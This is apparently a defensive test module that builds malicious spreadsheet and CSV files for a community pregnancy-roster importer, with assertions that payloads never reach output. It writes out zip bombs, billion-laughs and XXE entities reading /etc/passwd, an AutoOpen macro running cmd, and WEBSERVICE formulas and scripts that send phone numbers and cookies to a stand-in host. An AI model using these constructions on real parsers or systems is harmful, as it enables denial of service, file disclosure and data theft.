"""Generators of hostile input files, each written into a folder in well under a second.

Each builder writes one file (named so that the community is known: 新民社区) and returns a
:class:`Case` saying what the run must do with it: reject it with a Chinese reason ("error") or
read it with its rows accounted ("read"), and which strings must never reach an output (script
text, link targets, entity payloads, macro code).
"""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Literal
from xml.sax.saxutils import escape

import xlsxwriter

from tests.factories import make_id

Outcome = Literal["error", "read"]

# A documentation address (RFC 5737): never routable, so nothing could be fetched even by mistake.
EVIL_HOST = "198.51.100.7"
HEADER = ["姓名", "身份证号", "联系电话", "末次月经"]
TITLE = "泗洲街道新民社区已孕对象花名册"


@dataclass(frozen=True)
class Case:
    file: str  # path relative to the input folder, as summary.json names it
    outcome: Outcome
    rows: int = 0  # for "read": data rows that must be accounted (at least)
    secrets: tuple[str, ...] = ()  # must appear in no output file


def people(n: int, start: int = 90_000) -> list[list[object]]:
    """``n`` valid roster lines: name, ID (text), mobile, LMP (text)."""
    return [[f"测试{i:02d}", make_id(start + i), f"137{start + i:08d}", "2020-06-01"] for i in range(n)]


def roster_csv(rows: Sequence[Sequence[object]]) -> str:
    lines = [TITLE, ",".join(HEADER), *(",".join("" if v is None else str(v) for v in r) for r in rows)]
    return "\r\n".join(lines) + "\r\n"


# ---------------------------------------------------------------------------------------------
# A minimal xlsx writer working on raw XML, so that a case can say exactly what the parts contain.

NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


def col_letters(n: int) -> str:
    """1 -> A, 27 -> AA, 1_000_000 -> BDWGN."""
    out = ""
    while n:
        n, r = divmod(n - 1, 26)
        out = chr(65 + r) + out
    return out


def cells_xml(rows: Sequence[Sequence[object]], first_row: int = 1) -> str:
    """``<row>``s of inline-string and number cells."""
    parts: list[str] = []
    for r, row in enumerate(rows, start=first_row):
        cells: list[str] = []
        for c, value in enumerate(row, start=1):
            ref = f"{col_letters(c)}{r}"
            if value is None:
                continue
            if isinstance(value, int | float) and not isinstance(value, bool):
                cells.append(f'<c r="{ref}"><v>{value}</v></c>')
            else:
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>')
        parts.append(f'<row r="{r}">{"".join(cells)}</row>')
    return "".join(parts)


def sheet_xml(body: str, doctype: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<worksheet xmlns="{NS_MAIN}"><sheetData>{body}</sheetData></worksheet>'


def roster_sheet(rows: Sequence[Sequence[object]]) -> str:
    return sheet_xml(cells_xml([[TITLE], HEADER, *rows]))


def write_xlsx(
    path: Path,
    sheets: Sequence[tuple[str, str]],
    *,
    shared_strings: str | None = None,
    extra: dict[str, bytes | str] | None = None,
) -> None:
    """An xlsx package from (sheet name, worksheet XML) pairs, optional sharedStrings and parts."""
    overrides = [
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    ]
    rels = []
    entries = []
    for i, (name, _xml) in enumerate(sheets, start=1):
        overrides.append(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{CT_SHEET}"/>')
        rels.append(f'<Relationship Id="rId{i}" Type="{NS_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>')
        entries.append(f'<sheet name="{escape(name)}" sheetId="{i}" r:id="rId{i}"/>')
    if shared_strings is not None:
        overrides.append(
            '<Override PartName="/xl/sharedStrings.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        )
        rels.append(f'<Relationship Id="rIdS" Type="{NS_REL}/sharedStrings" Target="sharedStrings.xml"/>')
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>' + "".join(overrides) + "</Types>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", content_types)
        zf.writestr(
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{NS_PKG}">'
            f'<Relationship Id="rId1" Type="{NS_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        zf.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{NS_MAIN}" xmlns:r="{NS_REL}">'
            f'<sheets>{"".join(entries)}</sheets></workbook>',
        )
        zf.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{NS_PKG}">{"".join(rels)}</Relationships>',
        )
        for i, (_name, xml) in enumerate(sheets, start=1):
            zf.writestr(f"xl/worksheets/sheet{i}.xml", xml)
        if shared_strings is not None:
            zf.writestr("xl/sharedStrings.xml", shared_strings)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)


def patch_zip_sizes(path: Path, member: str, *, declared: int, crc_of: bytes | None = None) -> None:
    """Rewrite the uncompressed size (and optionally the CRC) ``member`` declares, in its local
    header and in the central directory, leaving the compressed data as it is."""
    raw = bytearray(path.read_bytes())
    name = member.encode()
    for magic, name_len_at, name_at, crc_at, size_at in (
        (b"PK\x03\x04", 26, 30, 14, 22),
        (b"PK\x01\x02", 28, 46, 16, 24),
    ):
        i = raw.find(magic)
        while i >= 0:
            n = struct.unpack_from("<H", raw, i + name_len_at)[0]
            if raw[i + name_at : i + name_at + n] == name:
                if crc_of is not None:
                    struct.pack_into("<I", raw, i + crc_at, zlib.crc32(crc_of))
                struct.pack_into("<I", raw, i + size_at, declared)
            i = raw.find(magic, i + 4)
    path.write_bytes(bytes(raw))


# ---------------------------------------------------------------------------------------------
# The cases


def zip_bomb_ratio(folder: Path) -> Case:
    """40 MB of zeros deflated to ~40 KB (1000:1) inside an xlsx-shaped package."""
    path = folder / "新民社区花名册_压缩炸弹.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", '<workbook><sheets><sheet name="S" r:id="rId1"/></sheets></workbook>')
        block = bytes(1 << 20)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            for _ in range(40):
                fh.write(block)
    return Case(path.name, "error")


def zip_bomb_declared(folder: Path) -> Case:
    """A small package whose worksheet declares 4 GB uncompressed."""
    path = folder / "新民社区花名册_声明4G.xlsx"
    write_xlsx(path, [("Sheet1", roster_sheet(people(3)))])
    patch_zip_sizes(path, "xl/worksheets/sheet1.xml", declared=0xFFFF_FFF0)
    return Case(path.name, "error")


def zip_lying_sizes(folder: Path) -> Case:
    """The worksheet declares only its harmless first bytes (with their CRC); the rest of the
    deflate stream hides 20 MB of padding and a cell at XFD1000000 that the size checks and the
    pre-scan never see."""
    path = folder / "新民社区花名册_谎报大小.xlsx"
    head = roster_sheet(people(3)).removesuffix("</sheetData></worksheet>").encode()
    tail = b'<row r="1000000"><c r="XFD1000000"><v>1</v></c></row></sheetData></worksheet>'
    data = head + b" " * (20 << 20) + tail
    write_xlsx(path, [("Sheet1", data.decode())])
    patch_zip_sizes(path, "xl/worksheets/sheet1.xml", declared=len(head), crc_of=head)
    return Case(path.name, "error")


def truncated_zip(folder: Path) -> Case:
    full = folder / "完整.tmp"
    write_xlsx(full, [("Sheet1", roster_sheet(people(30)))])
    data = full.read_bytes()
    full.unlink()
    path = folder / "新民社区花名册_截断.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return Case(path.name, "error")


def external_links_and_macros(folder: Path) -> Case:
    """An .xlsm roster with a VBA project (AutoOpen), external workbook links (UNC and file://),
    and formulas (WEBSERVICE, HYPERLINK, an external reference) whose cached values are the data.
    Read: the cached values; nothing fetched, run or copied."""
    path = folder / "新民社区花名册_外链和宏.xlsm"
    vba = folder / "vbaProject.bin"
    vba.write_bytes(
        b'Attribute VB_Name = "ThisWorkbook"\r\nSub AutoOpen()\r\n  Shell "cmd /c HOSTILE_MACRO"\r\nEnd Sub\r\n' * 8
    )
    rows = people(4, start=90_100)
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": True})
    wb.add_vba_project(str(vba))
    ws = wb.add_worksheet("花名册")
    ws.write_row(0, 0, [TITLE])
    ws.write_row(1, 0, HEADER)
    for r, (name, ident, phone, lmp) in enumerate(rows, start=2):
        ws.write_formula(r, 0, f'=HYPERLINK("file:///etc/passwd","{name}")', None, name)
        ws.write_string(r, 1, str(ident))
        ws.write_formula(r, 2, f'=WEBSERVICE("http://{EVIL_HOST}/HOSTILE_WEB?p={phone}")', None, phone)
        ws.write_formula(r, 3, "='[1]Sheet1'!$D$1", None, lmp)
    wb.close()
    vba.unlink()
    external = (
        f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="{NS_MAIN}" xmlns:r="{NS_REL}">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="D1" t="str"><v>HOSTILE_CACHE</v></cell>'
        "</row></sheetData></sheetDataSet></externalBook></externalLink>"
    )
    link_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{NS_PKG}">'
        f'<Relationship Id="rId1" Type="{NS_REL}/externalLinkPath" '
        f'Target="file:///\\\\{EVIL_HOST}\\share\\HOSTILE_LINK.xlsx" TargetMode="External"/></Relationships>'
    )
    tmp = path.with_suffix(".part")
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "xl/workbook.xml":
                data = data.replace(
                    b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX"/></externalReferences>'
                )
            elif info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    f'<Relationship Id="rIdX" Type="{NS_REL}/externalLink" '
                    f'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode(),
                )
            elif info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
                    b'"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
                )
            zout.writestr(info, data)
        zout.writestr("xl/externalLinks/externalLink1.xml", external)
        zout.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", link_rels)
    tmp.replace(path)
    return Case(
        path.name,
        "read",
        rows=len(rows),
        secrets=(EVIL_HOST, "HOSTILE_MACRO", "HOSTILE_WEB", "HOSTILE_LINK", "HOSTILE_CACHE", "WEBSERVICE", "etc/passwd"),
    )


def _laughs() -> str:
    entities = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        entities.append(f'<!ENTITY lol{i} "{f"&{prev};" * 10}">')
    return f"<!DOCTYPE lolz [{''.join(entities)}]>"


def billion_laughs_shared_strings(folder: Path) -> Case:
    """Entity expansion (10^9 "lol") in sharedStrings.xml, referenced from the header row."""
    path = folder / "新民社区花名册_实体膨胀.xlsx"
    strings = [TITLE, *HEADER, "&lol9;"]
    sst = (
        f'<?xml version="1.0" encoding="UTF-8"?>{_laughs()}<sst xmlns="{NS_MAIN}" count="{len(strings)}" '
        f'uniqueCount="{len(strings)}">' + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>"
    )
    body = (
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
        '<row r="2">' + "".join(f'<c r="{col_letters(i)}2" t="s"><v>{i}</v></c>' for i in range(1, 5)) + "</row>"
        + cells_xml(people(3), first_row=3)
        + '<row r="6"><c r="E6" t="s"><v>5</v></c></row>'
    )
    write_xlsx(path, [("Sheet1", sheet_xml(body))], shared_strings=sst)
    return Case(path.name, "error", secrets=("lollollol",))


def entities_in_worksheet(folder: Path) -> Case:
    """A good roster sheet, and a second sheet with entity expansion and an external entity
    (file:///etc/passwd) in its DOCTYPE: the good sheet is read, the other reported."""
    path = folder / "新民社区花名册_外部实体.xlsx"
    doctype = _laughs().replace("]>", '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    bad = sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;&xxe;</t></is></c></row>', doctype)
    rows = people(3, start=90_200)
    write_xlsx(path, [("花名册", roster_sheet(rows)), ("附表", bad)])
    return Case(path.name, "read", rows=len(rows), secrets=("root:x:0:0", "lollollol"))


def million_columns_csv(folder: Path) -> Case:
    path = folder / "新民社区花名册_百万列.csv"
    header = ",".join(HEADER) + ",x" * 1_000_000
    path.write_text(f"{header}\n" + "\n".join(",".join(map(str, r)) for r in people(3)) + "\n", encoding="utf-8")
    return Case(path.name, "error")


def million_columns_xlsx(folder: Path) -> Case:
    """A good roster sheet, and a sheet with a cell in column 1,000,000 (BDWGN, far past Excel's
    XFD): the parser would allocate rows x 10^6 cells."""
    path = folder / "新民社区花名册_百万列.xlsx"
    far = col_letters(1_000_000)
    wide = sheet_xml(f'<row r="1"><c r="A1"><v>1</v></c><c r="{far}1"><v>2</v></c></row><row r="100"><c r="A100"><v>3</v></c></row>')
    rows = people(3, start=90_300)
    write_xlsx(path, [("花名册", roster_sheet(rows)), ("宽表", wide)])
    return Case(path.name, "read", rows=len(rows))


def _big_text(megabytes: int) -> str:
    """Random CJK text of ``megabytes`` MB in UTF-8: it does not compress (no zip-bomb ratio)."""
    rng = random.Random(2020)
    chunk = "".join(chr(0x4E00 + rng.randrange(20_000)) for _ in range(40_000))  # ~120 KB
    n = megabytes * (1 << 20) // 3
    return (chunk * (n // len(chunk) + 1))[:n]


def ten_mb_cell_xlsx(folder: Path) -> Case:
    """A roster whose one name cell holds 10 MB of text (in a data row, so it travels on)."""
    path = folder / "新民社区花名册_10MB单元格.xlsx"
    rows = people(3, start=90_400)
    rows.append([_big_text(10), make_id(90_499), "13790499000", "2020-06-01"])
    write_xlsx(path, [("Sheet1", roster_sheet(rows))])
    return Case(path.name, "read", rows=len(rows))


def ten_mb_cell_csv(folder: Path) -> Case:
    """A CSV roster with a 10 MB quoted field spread over short lines (so no line is too long)."""
    path = folder / "新民社区花名册_10MB单元格.csv"
    text = _big_text(10)
    field = '"' + "\n".join(text[i : i + 60] for i in range(0, len(text), 60)) + '"'
    rows = people(3, start=90_500)
    path.write_text(roster_csv(rows) + f"{field},{make_id(90_599)},13790599000,2020-06-01\r\n", encoding="utf-8")
    return Case(path.name, "error")


def invalid_utf8_csv(folder: Path) -> Case:
    path = folder / "新民社区花名册_乱码.csv"
    rows = people(5, start=90_600)
    data = roster_csv(rows).encode("utf-8")
    data = data.replace("测试02".encode(), b"\xff\xfe\x80\xc3(" + "测试02".encode())
    data += b"\xed\xa0\x80\xf8\x88\x80\x80\x80,,,\r\n"  # a surrogate and a 5-byte form: never UTF-8
    path.write_bytes(data)
    return Case(path.name, "read", rows=len(rows))


def nul_bytes_csv(folder: Path) -> Case:
    path = folder / "新民社区花名册_空字符.csv"
    rows = people(4, start=90_700)
    data = roster_csv(rows).encode("utf-8").replace("测试01".encode(), "测\x00试01".encode())
    path.write_bytes(data.replace(b"\r\n", b"\x00\r\n", 2))
    return Case(path.name, "read", rows=len(rows))


def only_nul_bytes(folder: Path) -> Case:
    path = folder / "新民社区花名册_全是空字符.xlsx"
    path.write_bytes(bytes(64 * 1024))
    return Case(path.name, "error")


HTML_PAGE = """<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta http-equiv="refresh" content="0; url=http://{host}/HOSTILE_REFRESH">
<script>window.location = "http://{host}/steal?c=" + document.cookie; /* HOSTILE_SCRIPT */</script>
<script src="http://{host}/HOSTILE_SRC.js"></script>
<style>body {{ background: url(http://{host}/HOSTILE_STYLE.png) }}</style>
</head><body onload="alert('HOSTILE_ONLOAD')">
<iframe src="http://{host}/HOSTILE_FRAME"></iframe>
<table border=1>
<tr><td colspan=4>{title}</td></tr>
<tr>{header}</tr>
{rows}
</table>
<noscript>HOSTILE_NOSCRIPT</noscript><template><tr><td>HOSTILE_TEMPLATE</td></tr></template>
<object data="http://{host}/HOSTILE_OBJECT"></object>
</body></html>
"""


def html_with_scripts(folder: Path) -> Case:
    """A web page saved as .xls (as health information systems export), full of active content."""
    path = folder / "新民社区花名册_网页导出.xls"
    rows = people(3, start=90_800)
    wrapped = [
        '<script>document.write("HOSTILE_INLINE")</script>{}',
        "<img src=x onerror=\"alert('HOSTILE_IMG')\">{}",
        "<a href=\"javascript:alert('HOSTILE_HREF')\">{}</a>",
    ]
    body = "\n".join(
        "<tr>" + "".join(f"<td>{w.format(v) if c == 0 else v}</td>" for c, v in enumerate(r)) + "</tr>"
        for w, r in zip(wrapped, rows, strict=True)
    )
    path.write_text(
        HTML_PAGE.format(
            host=EVIL_HOST, title=TITLE, header="".join(f"<th>{h}</th>" for h in HEADER), rows=body
        ),
        encoding="utf-8",
    )
    secrets = tuple(
        f"HOSTILE_{w}"
        for w in ("REFRESH", "SCRIPT", "SRC", "STYLE", "ONLOAD", "FRAME", "NOSCRIPT", "TEMPLATE", "OBJECT", "INLINE", "IMG", "HREF")
    )
    return Case(path.name, "read", rows=len(rows), secrets=(*secrets, EVIL_HOST, "<script", "javascript:"))


def _spreadsheetml(rows: Sequence[Sequence[object]], doctype: str = "") -> str:
    """An Excel 2003 XML workbook (SpreadsheetML) of one worksheet of text cells."""
    body = "".join(
        "<Row>" + "".join(f'<Cell><Data ss:Type="String">{v}</Data></Cell>' for v in r) + "</Row>" for r in rows
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<?mso-application progid="Excel.Sheet"?>'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
        f'<Worksheet ss:Name="花名册"><Table>{body}</Table></Worksheet></Workbook>'
    )


def spreadsheetml_roster(folder: Path) -> Case:
    """A roster exported as Excel 2003 XML and renamed .xls (as government systems do)."""
    path = folder / "新民社区花名册_2003XML.xls"
    rows = people(3, start=90_300)
    path.write_text(_spreadsheetml([[TITLE], HEADER, *rows]), encoding="utf-8")
    return Case(path.name, "read", rows=len(rows))


def spreadsheetml_laughs(folder: Path) -> Case:
    path = folder / "新民社区花名册_2003XML实体膨胀.xml"
    path.write_text(_spreadsheetml([[TITLE], HEADER, ["&lol9;"]], _laughs().replace("lolz", "Workbook")), encoding="utf-8")
    return Case(path.name, "error", secrets=("lollollol",))


def spreadsheetml_external_entity(folder: Path) -> Case:
    path = folder / "新民社区花名册_2003XML外部实体.xls"
    doctype = f'<!DOCTYPE Workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "http://{EVIL_HOST}/x">]>'
    path.write_text(_spreadsheetml([[TITLE], HEADER, ["&xxe;&web;"]], doctype), encoding="utf-8")
    return Case(path.name, "error", secrets=("root:x:0:0", EVIL_HOST))


def zero_sheets_xlsx(folder: Path) -> Case:
    """A workbook without a single worksheet: rejected with a reason, not dropped silently."""
    path = folder / "新民社区花名册_没有工作表.xlsx"
    write_xlsx(path, [])
    return Case(path.name, "error")


def sparse_far_cell_xlsx(folder: Path) -> Case:
    """1.8 KB declaring 20 M cells: a dozen cells and one at T1000000 (within max_cells, but a
    parser would build the whole rectangle: 27 s and 1.35 GB). Refused on the extent first."""
    path = folder / "新民社区花名册_远处单元格.xlsx"
    body = cells_xml([[TITLE], HEADER, *people(2, start=90_400)]) + '<row r="1000000"><c r="T1000000"><v>1</v></c></row>'
    xml = sheet_xml(body).replace("<sheetData>", '<dimension ref="A1:T1000000"/><sheetData>', 1)
    write_xlsx(path, [("Sheet1", xml)])
    return Case(path.name, "error")


BUILDERS: dict[str, Callable[[Path], Case]] = {
    "zip_bomb_ratio": zip_bomb_ratio,
    "zip_bomb_declared": zip_bomb_declared,
    "zip_lying_sizes": zip_lying_sizes,
    "truncated_zip": truncated_zip,
    "external_links_and_macros": external_links_and_macros,
    "billion_laughs_shared_strings": billion_laughs_shared_strings,
    "entities_in_worksheet": entities_in_worksheet,
    "million_columns_csv": million_columns_csv,
    "million_columns_xlsx": million_columns_xlsx,
    "ten_mb_cell_xlsx": ten_mb_cell_xlsx,
    "ten_mb_cell_csv": ten_mb_cell_csv,
    "invalid_utf8_csv": invalid_utf8_csv,
    "nul_bytes_csv": nul_bytes_csv,
    "only_nul_bytes": only_nul_bytes,
    "html_with_scripts": html_with_scripts,
    "spreadsheetml_roster": spreadsheetml_roster,
    "spreadsheetml_laughs": spreadsheetml_laughs,
    "spreadsheetml_external_entity": spreadsheetml_external_entity,
    "zero_sheets_xlsx": zero_sheets_xlsx,
    "sparse_far_cell_xlsx": sparse_far_cell_xlsx,
}
